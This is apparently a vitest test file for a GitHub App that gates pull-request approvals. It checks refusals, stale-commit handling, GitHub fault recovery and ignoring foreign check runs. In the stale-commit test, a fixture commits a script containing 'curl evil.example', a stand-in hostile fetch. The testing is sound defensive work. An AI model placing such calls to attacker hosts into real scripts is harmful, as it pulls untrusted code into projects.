/** Clicks that ask for an approval and must not get one, and days on which GitHub fails. */
import { Probot } from 'probot';
import { afterEach, describe, expect, test } from 'vitest';
import { registerHandlers } from '../../src/app/handlers.ts';
import { ANY_REPOSITORY, PolicyLoader } from '../../src/github/policy-loader.ts';
import type { PullRequest } from '../github/index.ts';
import { BUTTON, blockedPull, click, newestRun, summaryOf } from './approval-click.ts';
import type { Stage, StageOptions } from './stage.ts';

let current: Stage | undefined;

afterEach(async () => {
  await current?.close();
  current = undefined;
});

async function blocked(options: StageOptions = {}): Promise<{ stage: Stage; pull: PullRequest }> {
  const { stage, pull } = await blockedPull(options);
  current = stage;
  return { stage, pull };
}

/** What came of the clicks, down to what GitHub would decide. */
async function outcomeOf(stage: Stage, pull: PullRequest) {
  const { mergeable } = await pull.wouldMerge();
  const proposals = stage.policyRepo.pullRequests().length;
  return { proposals, mergeable, conclusion: newestRun(pull)?.conclusion, summary: summaryOf(pull) };
}

const refusedWith = (words: string) => ({
  proposals: 0,
  mergeable: false,
  conclusion: 'failure',
  summary: expect.stringContaining(words),
});

describe('a click is refused in words, and never turns a check green', () => {
  test('of somebody who may not push', async () => {
    const { stage, pull } = await blocked();
    stage.github.resetRequests();
    await click(stage, pull, 'bob');
    expect(await outcomeOf(stage, pull)).toEqual(
      refusedWith('`bob` has no write access to this repository, so nothing was requested.'),
    );
    const written = stage.github.requests.filter(
      ({ method, path }) => method !== 'GET' && !path.includes('check-runs'),
    );
    expect(written.filter(({ path }) => path.startsWith('/repos/'))).toEqual([]);
    await click(stage, pull, 'bob');
    expect(pull.checkRuns().filter(({ name }) => name === 'portcullis')).toHaveLength(2);
    // It does not take the place of an answer to somebody who may.
    await click(stage, pull, 'alice');
    await click(stage, pull, 'bob');
    expect(summaryOf(pull)).toContain('acme/.claude-policy#1');
  });

  test('of somebody whose right was taken away between the click and the answer', async () => {
    const { stage, pull } = await blocked();
    stage.github.faults.webhook({ event: 'check_run', effect: 'hold', times: 1 });
    await pull.requestAction('portcullis', BUTTON, 'alice');
    stage.repo.setPermission('alice', 'read');
    await stage.github.faults.release();
    await stage.settled();
    expect(await outcomeOf(stage, pull)).toEqual(refusedWith('`alice` has no write access'));
  });

  test('on a commit that is no longer the head', async () => {
    const { stage, pull } = await blocked();
    const old = newestRun(pull);
    await stage.repo.commit('feature', { files: { 'tools/check.sh': 'curl evil.example\n' } });
    await stage.settled();
    await old?.requestAction(BUTTON, 'alice');
    await stage.settled();
    expect(await outcomeOf(stage, pull)).toEqual(
      refusedWith('`alice` asked for approval on an older commit'),
    );
    await click(stage, pull);
    expect(stage.policyRepo.pullRequests()).toHaveLength(1);
    expect(summaryOf(pull)).not.toContain('older commit');
  });

  test('where the second App is not installed', async () => {
    const { stage, pull } = await blocked({ approvals: 'register' });
    await click(stage, pull);
    expect(await outcomeOf(stage, pull)).toEqual(
      refusedWith('The App that writes requests is not installed on the policy repository.'),
    );
  });

  test.each([
    ['was not given the right', { contents: 'read', pull_requests: 'write' }],
    ['may push and open no pull request', { contents: 'write', pull_requests: 'read' }],
  ] as const)('where the second App %s', async (_, permissions) => {
    const { stage, pull } = await blocked({ approvals: 'register' });
    await stage.approvals?.install(stage.org, { repositories: ['.claude-policy'], permissions });
    await click(stage, pull);
    expect(await outcomeOf(stage, pull)).toEqual(refusedWith('GitHub does not let the App write requests'));
  });

  test('where the policy repository refuses new branches', async () => {
    const { stage, pull } = await blocked();
    stage.github.faults.http({
      method: 'POST',
      path: '/repos/acme/*/git/refs',
      effect: 'error-before',
      status: 403,
    });
    await click(stage, pull);
    expect(await outcomeOf(stage, pull)).toEqual(refusedWith('GitHub does not let the App write requests'));
  });

  test('while GitHub limits the second App; then it is tried again by itself', async () => {
    const { stage, pull } = await blocked();
    const limit = { effect: 'secondary-limit', retryAfterSeconds: 1, times: 1 } as const;
    stage.github.faults.http({ method: 'POST', path: '/repos/*/*/git/trees', ...limit });
    await pull.requestAction('portcullis', BUTTON, 'alice');
    await expect.poll(() => summaryOf(pull), { timeout: 10_000 }).toContain('it is tried again by itself');
    await expect.poll(() => summaryOf(pull), { timeout: 10_000 }).toContain('acme/.claude-policy#1');
    expect(summaryOf(pull)).not.toContain('tried again by itself');
    expect(stage.policyRepo.pullRequests()).toHaveLength(1);
  });
});

describe('what is written survives a bad day', () => {
  test.each([
    ['the commit', '/repos/*/*/git/commits', 'error-after'],
    ['the branch', '/repos/*/*/git/refs', 'error-after'],
    ['the pull request', '/repos/*/*/pulls', 'error-after'],
    ['the branch, before it was made', '/repos/*/*/git/refs', 'error-before'],
    ['the pull request, before it was opened', '/repos/*/*/pulls', 'error-before'],
    ['the pull request, and the line breaks', '/repos/*/*/pulls', 'reset'],
  ] as const)('an error at %s makes one pull request in the end', async (_, path, effect) => {
    const { stage, pull } = await blocked();
    stage.github.faults.http({ method: 'POST', path, effect, times: 1 });
    await click(stage, pull);
    expect(stage.policyRepo.pullRequests()).toHaveLength(1);
    expect(summaryOf(pull)).toContain('acme/.claude-policy#1');
  });

  test('a click is done after a restart', async () => {
    const { stage, pull } = await blocked();
    stage.github.faults.http({
      method: 'POST',
      path: '/repos/*/*/git/refs',
      effect: 'secondary-limit',
      times: 1,
    });
    await click(stage, pull);
    await stage.stop();
    await stage.start();
    await click(stage, pull);
    expect(stage.policyRepo.pullRequests()).toHaveLength(1);
  });

  test('a branch of that name which somebody else made is left alone, and so is their pull request', async () => {
    const { stage, pull } = await blocked();
    await click(stage, pull);
    const [first] = stage.policyRepo.pullRequests();
    const name = first?.head.ref ?? '';
    await first?.close();
    await stage.policyRepo.commit(`${name}-2`, { files: { 'policy.jsonc': '{"presets":[]}' }, from: 'main' });
    const theirs = await stage.policyRepo.openPullRequest({ head: `${name}-2`, by: 'mallory' });
    await stage.policyRepo.commit(`${name}-3`, { files: { 'policy.jsonc': '{"presets":[]}' }, from: 'main' });
    const tips = [stage.policyRepo.branch(`${name}-2`), stage.policyRepo.branch(`${name}-3`)];
    await stage.settled();
    await click(stage, pull);
    const ours = stage.policyRepo.pullRequests().at(-1);
    expect(ours).toMatchObject({ state: 'open', head: { ref: `${name}-4` } });
    expect(theirs.state).toBe('open');
    expect([stage.policyRepo.branch(`${name}-2`), stage.policyRepo.branch(`${name}-3`)]).toEqual(tips);
    expect(summaryOf(pull)).toContain(`acme/.claude-policy#${ours?.number}`);
  });
});

test.each([
  ['of another App', { app: { id: 8 } }, {}],
  ['of another name', { name: 'portcullis / policy' }, {}],
  ['of a merge group', { external_id: 'v1:c0ffee:c0ffee:group:main' }, {}],
  ['with another button', {}, { identifier: 'merge' }],
])('a click on a check run %s is none of ours', async (_, run, action) => {
  const jobs: unknown[] = [];
  const probot = new Probot({ appId: 7, privateKey: 'none', secret: 'none', logLevel: 'fatal' });
  await probot.ready();
  const services = {
    appId: 7,
    policyRepository: '.claude-policy',
    policies: new PolicyLoader(ANY_REPOSITORY),
  };
  const enqueue = async (job: unknown): Promise<void> => void jobs.push(job);
  registerHandlers(probot, { ...services, enqueue });
  const ours = { app: { id: 7 }, name: 'portcullis', external_id: 'v1:c0ffee:c0ffee:12', head_sha: 'c0ffee' };
  const clickOn = async (change: object, button: object): Promise<void> => {
    const payload = {
      action: 'requested_action',
      check_run: { ...ours, ...change },
      requested_action: { identifier: BUTTON, ...button },
      installation: { id: 1 },
      repository: { name: 'web', owner: { login: 'acme' } },
      sender: { login: 'alice' },
    };
    const text = JSON.stringify({ id: 'delivery', name: 'check_run', payload });
    const event: Parameters<Probot['receive']>[0] = JSON.parse(text);
    await probot.receive(event);
  };
  await clickOn(run, action);
  expect(jobs).toEqual([]);
  await clickOn({}, {});
  expect(jobs).toMatchObject([
    { kind: 'approval', number: 12, headSha: 'c0ffee', cause: { actor: 'alice' } },
  ]);
});
